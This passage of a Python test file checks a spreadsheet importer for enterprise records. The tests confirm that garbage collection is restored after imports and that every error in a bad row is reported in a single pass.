    check_row = importer.check_row

    def recording(row, values, present):
        seen.append(gc.isenabled())
        return check_row(row, values, present)

    importer.check_row = recording
    content = book(("企业", [ENTERPRISE_HEADER, enterprise_row(1), enterprise_row(2)]))
    assert gc.isenabled()
    result = run_import(importer, read_workbook(content, filename="file.xlsx"))
    assert result.written and seen == [False, False]
    assert gc.isenabled()

    with pytest.raises(UnreadableFile):
        read_workbook(b"not a spreadsheet", filename="file.xlsx")
    assert gc.isenabled()
    broken = get_importer_class("enterprises")(file_name="file.xlsx")
    broken.check_row = lambda *args: 1 / 0
    with pytest.raises(ZeroDivisionError):
        run_import(broken, read_workbook(content, filename="file.xlsx"))
    assert gc.isenabled()


def test_a_row_with_a_bad_cell_also_names_its_bad_code_and_unknown_town(towns):
    """One reading names every error of a row: the clerk who fixes the scale must not find
    the code and the town wrong only on the next try."""
    bad_code = make_uscc(1)[:-1] + ("0" if make_uscc(1)[-1] != "0" else "1")
    row = enterprise_row(1, uscc=bad_code, scale="巨型", town="不存在镇")
    result = run("enterprises", book(("Sheet1", [ENTERPRISE_HEADER, row])))
    found = messages(result)
    assert not result.written
    assert any("[企业规模]" in m for m in found), found
    assert any("[统一社会信用代码]" in m and bad_code in m for m in found), found
    assert any("[所属镇（街道）]" in m or "不存在镇" in m for m in found), found
    assert Enterprise.objects.count() == 0


def test_a_bad_cell_does_not_hide_a_good_rows_checks_or_count_it_twice(towns):
    """The checks of a bad row remember nothing: the same code in a later good row is read
    as the first of the file (no "code twice" message), and the file is still refused."""
    good = enterprise_row(1)
    bad = enterprise_row(1, scale="巨型")
    result = run("enterprises", book(("Sheet1", [ENTERPRISE_HEADER, bad, good])))
    found = messages(result)
    assert len(found) == 1 and "[企业规模]" in found[0], found
